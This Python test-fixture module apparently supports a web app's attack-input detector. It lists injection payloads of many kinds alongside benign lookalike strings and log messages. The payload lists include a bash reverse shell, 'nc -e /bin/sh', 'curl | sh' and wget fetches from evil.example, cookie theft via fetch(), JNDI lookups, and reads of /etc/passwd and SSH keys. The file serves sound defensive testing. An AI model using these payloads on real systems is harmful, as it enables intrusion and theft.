# ruff: noqa: E501  (a pattern or a payload is read best on one line)
r"""Payloads of many kinds and encodings, and ordinary texts that look like them. Written for these tests."""

PAYLOADS: dict[str, list[str]] = {
    "sql_injection": [
        "' or '1'='1", "' OR 1=1--", "\" or \"\"=\"", "1 or 1=1", "1' and '1'='2", "admin'--", "admin' #", "admin'/*", "') or ('1'='1",
        "' or 1=1#", "' or true--", "-1' union select null,null,null--", "1 UNION ALL SELECT 1,2,3,4",
        "1/**/union/**/select/**/1,version(),3", "1/*!50000UnIoN*/+/*!50000SeLeCt*/1,2", "UNION SELECT username, password FROM users--",
        "1;DROP TABLE users", "'; DROP TABLE pitches;--", "1; WAITFOR DELAY '0:0:5'--", "1 AND SLEEP(5)", "1' AND SLEEP(5)#",
        "1 and (select * from (select(sleep(5)))a)", "'; exec xp_cmdshell('dir')--", "1 and extractvalue(1,concat(0x7e,version()))",
        "updatexml(1,concat(0x7e,(select user())),1)", "1 AND 4821=4821", "1) AND 2231=2231 AND (5=5", "' AND ASCII(SUBSTR((SELECT 1),1,1))>64--",
        "1' ORDER BY 10--+", "1 order by 3-- -", "1 group by x having 1=1--", "' having 1=1--", "'||(select 1 from dual)||'", "'; select pg_sleep(10)--",
        "1 and 1=(select count(*) from information_schema.tables)", "select * from users where 1=1", "1 procedure analyse(extractvalue(1,1),1)",
        "' union select @@version--", "1 into outfile '/tmp/x.php'", "benchmark(10000000,md5(1))", "'-'", "'='", "' or 'x' like 'x", "' or username is not null or username='",
        "' and 1=convert(int,@@version)--", "%27%20or%20%271%27%3D%271", "%2527%2520or%25201%253D1--", "1%27%20%4fR%201%3D1%23", "1'+or+1=1--+", "\\u0027 or 1=1--",
        "&#39; or 1=1--", "1 or sleep(3)#", "1' rlike sleep(5)--", "a' or 3=3--", "x' and email is null; --", "1 union select 1,group_concat(table_name),3 from information_schema.tables",
        "'; shutdown --", "1; insert into users values(1,'a','b')--", "1 and substring(version(),1,1)=5", "' or 1 in (select @@version)--", "cast(version() as int)", "%EF%BC%87 or 1=1--",
    ],
    "xss": [
        "<script>alert(1)</script>", "<ScRiPt>alert('x')</sCrIpT>", "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg/onload=alert`1`>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "javascript:alert(1)",
        "jAvAsCrIpT:alert(1)", "java\tscript:alert(1)", "<a href=\"javascript:alert(1)\">x</a>", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"",
        "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)>", "<math><mtext></table><img src=x onerror=alert(1)>",
        "<input onfocus=alert(1) autofocus>", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)", "&#x3c;script&#x3e;alert(1)", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3ealert(1)", "%u003cscript%u003ealert(1)",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "data:text/html,<script>alert(1)</script>",
        "<embed src=//evil.example/x.swf>", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<style>@import 'javascript:alert(1)';</style>",
        "<div style=\"width:expression(alert(1))\">", "<base href=//evil.example/>", "\";alert(1);//", "';alert(String.fromCharCode(88,83,83))//", "</script><script>alert(1)</script>",
        "<img src=1 oNeRrOr=alert`1`>", "＜script＞alert(1)＜/script＞", "<svg><script>alert&#40;1&#41;</script>", "<iframe srcdoc='<script>alert(1)</script>'>", "fetch('https://evil.example/?'+document.cookie)",
        "window['alert'](1)", "eval(atob('YWxlcnQoMSk='))", "<x onclick=alert(1)>click", "<form action=javascript:alert(1)><input type=submit>", "<img/src/onerror=prompt(8)>", "constructor.constructor('alert(1)')()",
        "<!--#exec cmd=\"ls\"-->", "<isindex type=image src=1 onerror=alert(1)>",
    ],
    "path_traversal": [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%2f..%2f..%2fetc%2fshadow", "..%252f..%252f..%252fetc%252fpasswd",
        "..%c0%af..%c0%af..%c0%afetc/passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", "....//....//....//etc/passwd", "/etc/passwd", "/etc/passwd%00.jpg", "../../wp-config.php", "..;/..;/manager/html",
        "/proc/self/environ", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php", "C:\\Windows\\System32\\drivers\\etc\\hosts", "/var/log/apache2/access.log", "..%5c..%5c..%5cboot.ini",
        "/..%u2215..%u2215..%u2215etc/passwd", "../.env", "../../../root/.ssh/id_rsa", "/WEB-INF/web.xml", "expect://id", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd", "\\\\evil.example\\share\\x", "/%5C../%5C../%5C../etc/hosts",
        "../../../../../../../../windows/system32/config/sam", "/.bash_history",
    ],
    "command_injection": [
        "; cat /etc/passwd", "| id", "|id", ";id", "&& whoami", "`id`;", "$(id)", "$(cat /etc/passwd)", "; ls -la", "|| ping -c 10 127.0.0.1 ||", "; sleep 10", "& ping -n 5 127.0.0.1 &", "; wget http://evil.example/x.sh", "| curl http://evil.example/x | sh",
        "; nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "() { :;}; /bin/bash -c 'cat /etc/passwd'", "cat${IFS}/etc/passwd", "; c'a't /etc/passwd", "%0a id", "%3Bcat%20/etc/passwd", "|dir c:\\", "& type c:\\windows\\win.ini", ";uname -a", "; rm -rf /tmp/x",
        "$(sleep 5)", "`sleep 5`", "a;/usr/bin/id", "{cat,/etc/passwd}", "powershell -enc SQBFAFgA", "cmd.exe /c whoami", "; python -c 'import os'", "x; nslookup evil.example", ";echo $((41*271))", "| net user",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "http://localhost/admin", "gopher://127.0.0.1:6379/_INFO", "http://[::1]/", "http://0x7f000001/", "http://2130706433/", "http://metadata.google.internal/computeMetadata/v1/", "dict://127.0.0.1:11211/stats",
        "http://10.0.0.5:8080/", "http://192.168.1.1/", "http://127.0.0.1.nip.io/", "http://100.100.100.200/latest/meta-data/", "http://0177.0.0.1/", "http://user@127.0.0.1/",
    ],
    "jndi_lookup": [
        "${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}", "${j${k8s:k5:-nd}i:ldap://x}", "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}", "$%7Bjndi:dns://x.example%7D", "${jnd${upper:ı}:ldap://x}", "\\u0024{jndi:ldap://x}",
    ],
    "template_injection": [
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "%{(#_='multipart/form-data')}", "{{constructor.constructor('alert(1)')()}}", "{% for x in ().__class__.__base__.__subclasses__() %}", "#set($x='')", "@(1+2)", "{{self._TemplateReference__context}}", "{php}echo 1;{/php}", "{{7*'7'}}", "${{7*7}}", "%7B%7B7*7%7D%7D", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
    ],
    "nosql_injection": ["username[$ne]=x&password[$ne]=x", '{"$gt":""}', "password[$regex]=^a", "' || this.password.match(/.*/)//", "{\"username\": {\"$ne\": null}}", "user[$exists]=true", ";return true;"],
    "ldap_injection": ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "x)(|(password=*))"],
    "xxe": ["<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">", "%3C!ENTITY%20x%20SYSTEM%20%22http://x%22%3E", "<xi:include parse=\"text\" href=\"file:///etc/passwd\"/>"],
    "code_injection": ["<?php system($_GET['c']); ?>", "phpinfo()", "system('id')", "__import__('os').system('id')", "require('child_process').exec('id')", "__proto__[polluted]=1", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "class.module.classLoader.resources.context.parent", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "java.lang.Runtime.getRuntime().exec('id')", "index/think/app/invokefunction&function=call_user_func_array", "?-d allow_url_include=on -d auto_prepend_file=php://input"],
    "crlf_injection": ["%0d%0aSet-Cookie:%20a=b", "x%0D%0ALocation:%20http://evil.example", "%E5%98%8A%E5%98%8D%0d%0aX-Injected:1", "%0aContent-Length:0%0a%0aHTTP/1.1 200 OK"],
}  # fmt: skip

BENIGN: list[str] = [
    # prose with words of SQL
    "select a plan from the list", "union station", "Union Station, a thriller", "the credit union select committee hearing", "drop table read", "drop table read at noon", "We need a table read; drop by at 5", "where do we go and how",
    "insert coin to continue", "delete my account please", "update profile and settings", "Create a table for two", "or 1 of them", "one or two", "black or white", "true or false", "him and her", "1 and 2 and 3", "2 + 2 = 5", "2 and 2=5", "1 + 1 = 3", "order by mail", "order by 5 pm",
    "Please place your order by 10", "group by genre", "having a baby", "like a rolling stone", "between two ferns", "Not null and void", "sleep", "Sleep (1963)", "Sleep No More", "the big sleep", "exec producer", "execute order 66", "select committee", "The Select Few", "From Dusk till Dawn where it all began", "values and beliefs", "limit 10", "Casting: case when Alice", "cast as the lead",
    # apostrophes, quotes, dashes
    "O'Brien", "D'Angelo", "it's a wonderful life", "rock 'n' roll", "Rock 'n' roll and price > 10", "the boys' -- a film", "'70s show", "Schindler's List", "Ocean's 11", "Ocean's 8 -- the heist", "don't look up", "the '80s and '90s", "\"The Room\" and other disasters", "\"quoted\"", "“Smart quotes” and ‘single’", "L'Avventura", "'Allo 'Allo!", "y'all", "Who's Afraid of Virginia Woolf?", "5'10\" tall actor", "12\" vinyl or 7\" single", "pitch -- final -- v2", "a -- b", "Rosencrantz & Guildenstern", "Tom & Jerry", "R&B", "AT&T", "Q&A", "Sense & Sensibility; a remake", "Ego; Superego",
    # script, film and code words
    "script writing", "script", "javascript developer wanted", "JavaScript: The Good Parts", "java script coffee shop", "on location", "one click", "on error", "on focus groups", "onset of winter", "once upon a time = true", "on load bearing walls", "document the process", "window seat", "alert the media", "Alert (2018)", "Red Alert 2", "prompt delivery", "confirm (yes/no)", "Eval (2019)", "function of music", "expression of interest", "iframe alternatives", "style guide", "Script <draft 3>", "x < y and y > z", "3 < 5", "a <- b", "I <3 movies", "<3", ">>> new <<<", "Budget < 1,000,000", "<untitled>", "<Script Title>", "->", "=> next",
    # shell words
    "cat people", "cats | dogs", "drama|comedy|horror", "Eat; sleep; repeat", "drama; head over heels", "find love & sleep well", "echo park", "kill bill", "less is more", "ping pong", "The Host", "dig deep", "type A personality", "a touch of evil", "who am i", "id card", "name; id", "Mad Max; Fury Road", "sort=price&order=asc&id=5", "type=feature&find=drama&set=1&env=production", "a=1;b=2;c=3", "cat=5&ls=1&pwd=reset", "x|y", "$100", "$5 (or best offer)", "$(price)", "US$ 1,500.00", "10% off", "100%", "50%25", "net profit", "more; less", "reset password", "python tutorial", "perl of wisdom", "Node.js meetup", "ruby slippers", "bash the patriarchy", "system (2019)", "solar system(s)", "exec(utive) producer", "curl up & dye",
    # braces, templates, prices
    "{name}", "{{name}}", "{{ user.first_name }}", "${title}", "{id}", "/pitches/{id}", "[object Object]", "a*b", "7*7", "C# and C++", "#hashtag", "#1 movie", "50/50", "{\"genre\":\"drama\",\"year\":2020}", "[1,2,3]", "50% of {budget}", "@{handle}", "%s %d", "100% {real}",
    # paths, ids, encodings
    "/api/pitches?page=2&sort=-created_at", "/api/v1.2/users/me", "/assets/app.3f2a1b.js", "/files/report.final.v2.pdf", "/a/../b", "../images/logo.png", "/docs/./intro", "...and justice for all", "wait... what?", "To be continued...", "../", "/images/..hidden", "file.tar.gz", "example.com/etc/about", "etc.", "/proc", "/var", "windows 11", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.abc-_123", "dGhpcyBpcyBhIHRlc3Q=", "aGVsbG8gd29ybGQ%3D", "550e8400-e29b-41d4-a716-446655440000", "sha256:9f86d081884c7d659a2feaa0c55ad015", "0x1f4a9", "rgb(10,20,30)", "q=caf%C3%A9", "q=%E6%98%A0%E7%94%BB", "映画 企画書", "Фильм о любви", "Amélie Poulain", "naïve façade", "ñandú & co", "q=hello+world", "q=rock+%26+roll", "q=O%27Brien", "q=%22exact+phrase%22", "q=it%27s+a+wonderful+life", "mailto:anna@example.com", "https://example.com/page?x=1#top", "next=/dashboard", "redirect_uri=https://pitchey.pages.dev/callback", "redirect_uri=http://localhost:5173/callback", "url=https://vimeo.com/12345", "callback=jQuery123_456", "lat=52.5&lng=13.4", "12:30", "1.2.3.4", "v1.0.0-rc.1+build.5", "user+tag@example.com", "a,b;c", "tel:+49(0)30/123-456", "(555) 123-4567", "C:", "50 cm x 70 cm", "fields=id,title,author(name)", "filter[genre]=drama&filter[year]=2020", "sort[]=a&sort[]=b", "range=[1 TO 5]", "price:{10 TO *}", "utm_source=news&utm_medium=e-mail", "ids=1,2,3", "expand=items(sub)", "time=2026-01-01T00:00:00%2B01:00",
    # our own kind of log message is quoted in tests of messages below
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9) Gecko/2008052906 Firefox/3.0",
]  # fmt: skip

MESSAGES: list[str] = [
    "Database query took 350 ms: SELECT id, title FROM pitches WHERE owner_id = $1 ORDER BY created_at DESC LIMIT 20", "GET /api/pitches 200", "Cannot read properties of undefined (reading 'map')", "Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON",
    "TypeError: x is not a function; at Object.handler (/app/dist/index.js:10:5)", "Connection to https://api.stripe.com timed out", "connect ECONNREFUSED http://localhost:3000/health", "Validation failed: \"email\" must be a valid email", "User 42 uploaded 'script (final).pdf' (2 MB)",
    "duplicate key value violates unique constraint \"users_email_key\"", "Rate limit exceeded for /api/auth/login; retry in 60 s", "Cache miss for key pitch:{id}:v2", "Job [cleanup] done; 0 rows deleted", "failed to fetch: `id` is required", "Email 'Welcome to Pitchey' queued for a***@example.com", "path /api/users/1/../2 normalised",
    "relation \"pitches\" does not exist at character 15", "Stripe webhook: signature ok && event processed", "select a plan from the list", "Order #1234 paid; invoice sent", "cat picture uploaded", "worker exceeded CPU limit (50 ms) | retry=2", "Upgrade: {{plan}} for ${name}", "Deadlock detected; process 12 waits for ShareLock; see log", "Login failed for o'brien@example.com", "GraphQL error: Cannot query field \"union\" on type \"Query\"", "System alert (level 2): disk 80%", "it's 5 o'clock -- time for backup",
]  # fmt: skip
